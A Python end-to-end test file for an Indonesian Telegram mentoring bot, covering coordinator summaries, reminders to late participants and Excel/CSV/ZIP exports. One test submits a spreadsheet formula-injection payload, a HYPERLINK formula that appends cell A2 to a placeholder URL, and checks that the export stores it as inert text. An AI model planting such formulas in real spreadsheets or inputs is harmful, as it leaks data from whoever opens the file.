"""Issue 13 end to end: the koordinator's /ringkasan with per-PP and per-district figures and a chart, a nudge
that reaches exactly the late CGPs once, the PP's one line per mentee."""
from __future__ import annotations

import csv
import io
import shutil
import zipfile
from collections.abc import AsyncIterator
from datetime import date
from pathlib import Path

import pytest
from openpyxl import load_workbook

from core.clock import FrozenClock
from core.content import Content, load_content
from services import background
from store.models import Answer, FlowRun, RunStatus
from tests.e2e.conftest import EXAMPLES
from tests.e2e.harness import KOORDINATOR_ID, RunningBot, running_bot
from tests.e2e.scheduling import DAYTIME, TG_IDS, join, nothing_more, person, received, set_lokakarya, utc
from tests.e2e.test_process import _env, _run

CONTENT = Path(__file__).resolve().parents[2] / "content"
PNG = b"\x89PNG\r\n\x1a\n"
NUDGE = "belum terkirim. Mohon berkenan melengkapinya"


@pytest.fixture
async def bot(emulator, db, content) -> AsyncIterator[RunningBot]:
    async with running_bot(emulator, db, content, clock=FrozenClock(DAYTIME)) as running:
        yield running


async def _submitted(bot: RunningBot, external_id: str, flow_id: str) -> None:
    someone = await person(bot, external_id)
    async with bot.deps.db.session() as s:
        s.add(FlowRun(person_id=someone.id, flow_id=flow_id, status=RunStatus.submitted,
                      content_version=bot.deps.content.version, submitted_at=DAYTIME))


async def test_koordinator_sees_who_is_behind_and_nudges_them_once(bot, emulator):
    users = await join(bot, "CGP01", "CGP02", "CGP05", "PP01")
    await set_lokakarya(bot, 1, date(2026, 2, 20))  # PI 1 was due on 13 February
    await _submitted(bot, "CGP01", "pi1")
    koordinator = bot.user(KOORDINATOR_ID, "Sri")
    await koordinator.join(expect="Koordinator")

    summary = await koordinator.say("/ringkasan", "Ringkasan")
    assert "Seluruhnya: 3/8 CGP bergabung (38%) · terlambat: 7 orang" in summary.text
    assert "• Bambang Sutrisno: gabung 50% · PI 1 25% · ⏰ 3" in summary.text
    assert "• Andi Rahman: gabung 25% · PI 1 0% · ⏰ 4" in summary.text
    assert "• Kabupaten Bandung: gabung 50% · PI 1 25% · ⏰ 3" in summary.text
    assert "• Kota Makassar: gabung 25% · PI 1 0% · ⏰ 4" in summary.text
    chart = await koordinator.next(lambda m: m.kind == "photo")
    assert chart.content.startswith(PNG)
    assert {"⏰ Bambang Sutrisno (3)", "⏰ Kota Makassar (4)", "🚫 Belum bergabung (5)"} <= set(summary.labels)

    late = await koordinator.press("⏰ Bambang Sutrisno (3)", "terlambat")
    assert "1. Agus Setiawan — PI 1" in late.text and "Rina Marlina" in late.text and "Dewi" not in late.text
    sent = await koordinator.press("📣 Kirim pengingat (3)", "Pengingat dikirim")
    assert "Pengingat dikirim ke 1 orang" in sent.text and "2 orang belum bergabung" in sent.text
    nudge = await emulator.wait_for(TG_IDS["CGP02"], NUDGE)
    assert "Agus Setiawan" in nudge.text and nudge.labels == ["Buka PI 1"]

    again = await koordinator.press("📣 Kirim pengingat (3)", "Pengingat dikirim")
    assert "Pengingat dikirim ke 0 orang" in again.text and "1 orang sudah diingatkan hari ini" in again.text
    await nothing_more(emulator, TG_IDS["CGP02"], lambda m: NUDGE in (m.text or "") and m.message_id != nudge.message_id)
    assert len(received(emulator, TG_IDS["CGP02"], NUDGE)) == 1
    for other in ("CGP01", "CGP05", "PP01"):
        assert not received(emulator, TG_IDS[other], NUDGE)

    mine = await users["PP01"].say("/ringkasan", "Perkembangan mentee")
    lines = mine.text.splitlines()
    assert "1. Agus Setiawan — PI 1: ⏰" in lines[3]
    assert "2. Dewi Lestari — PI 1: ✅" in lines[4]
    assert lines[5].startswith("3. Rina Marlina — PI 1: ⏰") and lines[5].endswith("belum bergabung")
    answers = await users["PP01"].press("Dewi Lestari", "Dewi Lestari")
    assert answers.text


LEAK = '=HYPERLINK("http://contoh.invalid/?x="&A2,"Klik")'
RENAMED = "Proses apa yang sudah berjalan sebulan ini, dan apa capaian Bapak/Ibu?"


def _renamed_content(tmp_path: Path) -> Content:
    """The shipped content with PI 1's second question reworded (same question id)."""
    root = tmp_path / "content"
    shutil.copytree(CONTENT, root)
    pi1 = root / "flows" / "pi1.yaml"
    text = pi1.read_text(encoding="utf-8")
    start = text.index("      - id: proses_sebulan\n        text: >-\n")
    end = text.index("      - id:", start + 10)
    pi1.write_text(text[:start] + f"      - id: proses_sebulan\n        text: {RENAMED}\n" + text[end:], encoding="utf-8")
    return load_content(root)


async def test_export_after_a_rename_keeps_old_answers_never_joined_and_formulas_inert(emulator, db, content, tmp_path):
    async with running_bot(emulator, db, content, clock=FrozenClock(DAYTIME)) as first:
        users = await join(first, "CGP01")
        await users["CGP01"].say("/refleksi", "Pilih refleksi")
        question = await users["CGP01"].press("Pendampingan Individu 1", "(1/20)")
        emulator.click(users["CGP01"].id, "Sudah", question.message_id)
        await users["CGP01"].next("(2/20)")
        await users["CGP01"].say(LEAK, "(3/20)")

    changed = _renamed_content(tmp_path)
    assert changed.version != content.version
    async with running_bot(emulator, db, changed, clock=FrozenClock(DAYTIME)) as second:
        koordinator = second.user(KOORDINATOR_ID, "Sri")
        await koordinator.join(expect="Koordinator")
        await koordinator.say("/ekspor", "Berikut jawaban")
        document = await koordinator.next(lambda m: m.kind == "document")
        sheet = load_workbook(io.BytesIO(document.content))["Pendampingan Individu 1"]
        header = [c.value for c in sheet[1]]
        column = header.index(RENAMED) + 1
        assert "Apa saja proses yang sudah berjalan" in sheet.cell(1, column).comment.text
        rows = {row[0].value: row for row in sheet.iter_rows(min_row=2)}
        leak = rows["Dewi Lestari"][column - 1]
        assert (leak.value, leak.data_type, leak.quotePrefix) == (LEAK, "s", True)  # text, never a formula
        assert rows["Rina Marlina"][header.index("Bergabung dengan bot")].value == "belum"
        assert rows["Rina Marlina"][header.index("Status")].value == "belum mulai"

        csv_file = await koordinator.press("📄 Unduh sebagai CSV", lambda m: m.kind == "document")
        with zipfile.ZipFile(io.BytesIO(csv_file.content)) as archive:
            table = list(csv.reader(io.StringIO(archive.read("Pendampingan Individu 1.csv").decode("utf-8-sig"))))
        assert [r for r in table if r[0] == "Dewi Lestari"][0][column - 1] == "'" + LEAK


async def test_export_from_the_command_line(tmp_path, database_url, db):
    env = _env(DATABASE_URL=database_url)
    assert (await _run("roster", "import", str(EXAMPLES / "roster.csv"), env=env, cwd=tmp_path))[0] == 0
    code, out, err = await _run("export", "--cohort", "11", "--format", "csv", "--out", "jawaban.zip", env=env, cwd=tmp_path)
    assert code == 0, err
    assert out.startswith("Ekspor ditulis ke jawaban.zip")
    with zipfile.ZipFile(tmp_path / "jawaban.zip") as archive:
        table = list(csv.reader(io.StringIO(archive.read("Pendampingan Individu 1.csv").decode("utf-8-sig"))))
    status = table[0].index("Status")
    assert len(table) == 1 + 8 and {r[status] for r in table[1:]} == {"belum mulai"}  # the roster's 8 CGPs, none joined
    code, _, err = await _run("export", "--cohort", "99", env=env, cwd=tmp_path)
    assert code == 2 and "angkatan dengan kode 99 tidak ditemukan" in err
    code, _, err = await _run("export", env=env, cwd=tmp_path)
    assert code == 0 and any(tmp_path.glob("jawaban-*.xlsx"))


MONDAY_MORNING = utc(2026, 3, 9, 0, 30)  # 07:30 WIB


async def test_weekly_report_arrives_once_with_its_chart_and_workbook(emulator, db, content):
    async with running_bot(emulator, db, content, clock=FrozenClock(MONDAY_MORNING)) as bot:
        await join(bot, "CGP01", "CGP02", "PP01")
        await set_lokakarya(bot, 1, date(2026, 2, 20))
        await _submitted(bot, "CGP01", "pi1")
        koordinator = bot.user(KOORDINATOR_ID, "Sri")
        await koordinator.join(expect="Koordinator")

        await background.plan(bot.deps)
        report = await koordinator.next("Laporan mingguan")
        assert "• Bambang Sutrisno: 3 — Agus Setiawan, Rina Marlina, Yusuf Hidayat" in report.text
        assert "1. Andi Rahman — 4 dari 4 mentee terlambat (100%)" in report.text
        assert "2. Bambang Sutrisno — 3 dari 4 mentee terlambat (75%)" in report.text
        assert "🚫 Belum bergabung (" in report.text and "Fitriani Syam" in report.text
        assert report.labels == ["📊 Grafik dan berkas Excel"]
        await background.plan(bot.deps)
        await nothing_more(emulator, KOORDINATOR_ID, lambda m: "Laporan mingguan" in (m.text or "") and m.message_id != report.message_id)

        await koordinator.press("📊 Grafik dan berkas Excel", "grafik dan berkas Excel (data per saat ini)")
        document = await koordinator.next(lambda m: m.kind == "document")
        photo = await koordinator.next(lambda m: m.kind == "photo")
        assert photo.content.startswith(PNG) and document.filename == "laporan-mingguan-2026-03-09.xlsx"
        await koordinator.next("minggu ke minggu")
        over_time = await koordinator.next(lambda m: m.kind == "photo" and m.message_id != photo.message_id)
        assert over_time.content.startswith(PNG)
        book = load_workbook(io.BytesIO(document.content))
        assert book.sheetnames == ["Per PP", "Terlambat", "Belum bergabung", "Siaran"]
        late = [row[0] for row in book["Terlambat"].iter_rows(min_row=2, values_only=True)]
        assert len(late) == 7 and "Dewi Lestari" not in late



async def test_ekspor_sends_the_answers_photos_and_files_as_a_zip_named_as_in_the_workbook(bot, emulator):
    users = await join(bot, "PP01", "CGP01", "PP02")
    photo = emulator.world.files.add("photo", b"\xff\xd8foto laporan")
    scan = emulator.world.files.add("document", b"%PDF notulen", "notulen.pdf")
    dewi = await person(bot, "CGP01")
    async with bot.deps.db.session() as s:
        run = FlowRun(person_id=dewi.id, flow_id="pi2", status=RunStatus.submitted,
                      content_version=bot.deps.content.version, submitted_at=DAYTIME)
        s.add(run)
        await s.flush()
        s.add(Answer(run_id=run.id, question_id="laporan_diskusi", content_version=bot.deps.content.version,
                     value=[{"kind": "photo", "file_id": photo.file_id}, {"kind": "document", "file_id": scan.file_id},
                            {"kind": "photo", "file_id": "gone-from-telegram"}]))
    pp = users["PP01"]

    offer = await pp.say("/ekspor", "dalam satu berkas Excel")
    assert offer.labels == ["📄 Unduh sebagai CSV", "🗂️ Unduh foto & berkas (ZIP)"]
    workbook = await pp.next(lambda m: m.kind == "document")
    cells = [str(c.value) for row in load_workbook(io.BytesIO(workbook.content))["Pendampingan Individu 2"].iter_rows()
             for c in row if c.value]
    assert "CGP01-pi2-laporan_diskusi-1.jpg\nCGP01-pi2-laporan_diskusi-2\nCGP01-pi2-laporan_diskusi-3.jpg" in cells

    fetching = await pp.press("🗂️ Unduh foto & berkas (ZIP)", "sedang diunduh")
    assert "3 berkas" in fetching.text
    ready = await pp.next("Foto dan berkas dari jawaban", timeout=10)
    assert "2 berkas dalam 1 ZIP" in ready.text and "1 berkas tidak dapat diunduh" in ready.text
    assert "CGP01-pi2-laporan_diskusi-3.jpg" in ready.text
    archive = await pp.next(lambda m: m.kind == "document")
    assert archive.filename == f"berkas-{DAYTIME.date().isoformat()}.zip"
    with zipfile.ZipFile(io.BytesIO(archive.content)) as z:
        assert z.read("CGP01-pi2-laporan_diskusi-1.jpg") == b"\xff\xd8foto laporan"
        assert z.read("CGP01-pi2-laporan_diskusi-2.pdf") == b"%PDF notulen"  # the extension Telegram's file path gives
        assert z.read("TIDAK_TERUNDUH.txt").decode() == "CGP01-pi2-laporan_diskusi-3.jpg\n"

    # another PP's /ekspor holds only his own mentees' answers: Dewi's files are not his to fetch
    own = await users["PP02"].say("/ekspor", "Excel")
    assert own.labels == ["📄 Unduh sebagai CSV"]
